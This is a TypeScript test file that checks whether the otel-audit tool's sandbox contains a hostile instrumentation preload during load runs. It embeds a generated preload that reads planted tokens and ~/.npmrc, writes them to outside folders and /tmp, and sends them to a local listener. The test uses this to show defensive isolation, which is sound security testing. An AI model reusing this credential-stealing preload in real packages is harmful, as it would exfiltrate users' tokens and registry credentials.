// `otel-audit load` runs the app — and so the instrumentation under audit — in the sandbox (issue 15):
// a hostile instrumentation preload that reads the tokens in its environment and the user's ~/.npmrc,
// writes what it found outside its temp folder (beside the app, and in the machine's /tmp) and sends it
// to a listener on the host's 127.0.0.1. In the sandbox none of it arrives — with the CPU profile too,
// where Node 20 has no permission model and the file view (a mount namespace) holds the files; with
// --unsafe-run (the control) all of it does, which shows that the hostile code ran and that this test
// can fail. Structure only, never timings: short runs.
import assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parseReport } from '../../src/model/parse-report.js';
import { inspectorKeepsPermissions } from '../../src/sandbox/node-permissions.js';
import { osIsolation } from '../../src/sandbox/os-isolation.js';
import { SECRETS, attackLab, filesUnder, leakedSecrets, type Lab } from '../helpers/attack-lab.js';
import { runCli } from '../cli/run-cli.js';

const SHORT = ['--duration', '0.4', '--rounds', '2', '--warmup', '0', '--count-requests', '0', '--no-scan', '--format', 'json', '-q'];

/** A file in the machine's own temp folder: outside the app's temp folder, hidden by the file view. */
const TMP_FILE = path.join(os.tmpdir(), `otel-audit-hostile-${process.pid}.txt`);

const APP = `'use strict';
const http = require('node:http');
http.createServer((req, res) => res.end('{}')).listen(Number(process.env.PORT), process.env.HOST);
`;

/** At load time: every secret it can find, written outside and sent to the listener. */
function hostilePreload(lab: Lab): string {
  return `'use strict';
const fs = require('node:fs');
const net = require('node:net');
const secrets = ${JSON.stringify(lab.secrets)};
const env = Object.values(process.env).filter((v) => secrets.includes(v)).join(',');
let npmrc;
try { npmrc = fs.readFileSync(${JSON.stringify(path.join(lab.home, '.npmrc'))}, 'utf8'); } catch (e) { npmrc = 'read!' + e.code; }
for (const [name, text] of [['env.txt', env], ['npmrc.txt', npmrc]]) {
  try { fs.writeFileSync(${JSON.stringify(lab.outside)} + '/' + name, text); } catch {}
}
try { fs.writeFileSync(${JSON.stringify(TMP_FILE)}, env + ';' + npmrc); } catch {}
const socket = net.connect(${lab.port}, '127.0.0.1', () => socket.end('env:' + env + ';npmrc:' + npmrc));
socket.on('error', () => {});
`;
}

const outsideText = (lab: Lab): string =>
  filesUnder(lab.outside)
    .map((f) => readFileSync(path.join(lab.outside, f), 'utf8'))
    .join('\n');

/** Every file of the lab but those the test planted (~/.npmrc; the preload, which lists the secrets to look for), and the /tmp file. */
const everywhereText = (lab: Lab): string =>
  [
    ...filesUnder(lab.root)
      .filter((f) => f !== 'home/.npmrc' && f !== 'hostile.js')
      .map((f) => readFileSync(path.join(lab.root, f), 'utf8')),
    existsSync(TMP_FILE) ? readFileSync(TMP_FILE, 'utf8') : '',
  ].join('\n');

describe('sandbox: a hostile instrumentation under load', { skip: osIsolation().network ? false : 'no network namespace here (unshare refused): the app shares the network' }, () => {
  let lab: Lab;
  before(async () => {
    lab = await attackLab();
    writeFileSync(path.join(lab.root, 'app.js'), APP);
    writeFileSync(path.join(lab.root, 'hostile.js'), hostilePreload(lab));
  });
  after(async () => {
    rmSync(TMP_FILE, { force: true });
    await lab.close();
  });

  const run = (extra: string[]) => runCli(['load', 'app.js', '--url', '/', '--instrument', './hostile.js', ...SHORT, ...extra], { cwd: lab.root, env: lab.env, timeoutMs: 120_000 });

  it('--no-profile: no token in its environment, nothing read from home, written outside or sent to the listener', async () => {
    const r = await run(['--no-profile']);
    assert.equal(r.code, 0, r.stderr);
    const sandbox = parseReport(r.stdout, 'stdout').load!.sandbox!;
    assert.deepEqual([sandbox.enabled, sandbox.environment, sandbox.permissionModel, sandbox.network], [true, 'allow-list', true, true]);
    assert.deepEqual(filesUnder(lab.outside), []);
    assert.deepEqual(lab.connections(), []);
    assert.deepEqual(leakedSecrets(lab, r.stdout + r.stderr), []);
  });

  it('with the CPU profile (on by default): nothing written outside, no ~/.npmrc or token anywhere, nothing sent; the profile still attributed', async () => {
    const r = await run([]);
    assert.equal(r.code, 0, r.stderr);
    const load = parseReport(r.stdout, 'stdout').load!;
    const sandbox = load.sandbox!;
    assert.equal(sandbox.permissionModel, inspectorKeepsPermissions());
    assert.equal(sandbox.files, osIsolation().files);
    assert.deepEqual(lab.connections(), []);
    assert.deepEqual(leakedSecrets(lab, r.stdout + r.stderr), []);
    // every variant's profile was written (to the app's temp folder) and read back into the attribution
    assert.deepEqual(
      load.variants.map((v) => [v.id, v.attribution !== null]),
      load.variants.map((v) => [v.id, true]),
    );
    if (!sandbox.permissionModel && !sandbox.files) {
      // neither file layer (no mount namespace here): the report must say so, and the environment held no token
      assert.ok(sandbox.limits.length > 0, 'file limits left off are a limit the report names');
      const envFile = filesUnder(lab.outside).includes('env.txt') ? readFileSync(path.join(lab.outside, 'env.txt'), 'utf8') : '';
      assert.equal(envFile, '');
      return;
    }
    assert.deepEqual(filesUnder(lab.outside), []);
    assert.equal(existsSync(TMP_FILE), false, 'nothing written to the machine /tmp');
    assert.deepEqual(leakedSecrets(lab, everywhereText(lab)), []);
  });

  it('the control, --unsafe-run: the same code gets the tokens out, to a file and to the listener', async () => {
    // what the runs before may have left (a file, with the profile on Node 20) must not count here
    for (const f of filesUnder(lab.outside)) rmSync(path.join(lab.outside, f));
    rmSync(TMP_FILE, { force: true });
    const before = lab.connections().length;
    // the profile on, as in the case above: the same run but for the sandbox
    const r = await run(['--unsafe-run']);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(parseReport(r.stdout, 'stdout').load!.sandbox!.enabled, false);
    assert.notDeepEqual(leakedSecrets(lab, outsideText(lab)), []);
    assert.ok(leakedSecrets(lab, everywhereText(lab)).includes(SECRETS.npmrc), 'the ~/.npmrc secret got out');
    assert.equal(existsSync(TMP_FILE), true, 'it wrote to the machine /tmp');
    assert.notDeepEqual(leakedSecrets(lab, lab.connections().slice(before).join('\n')), []);
  });
});
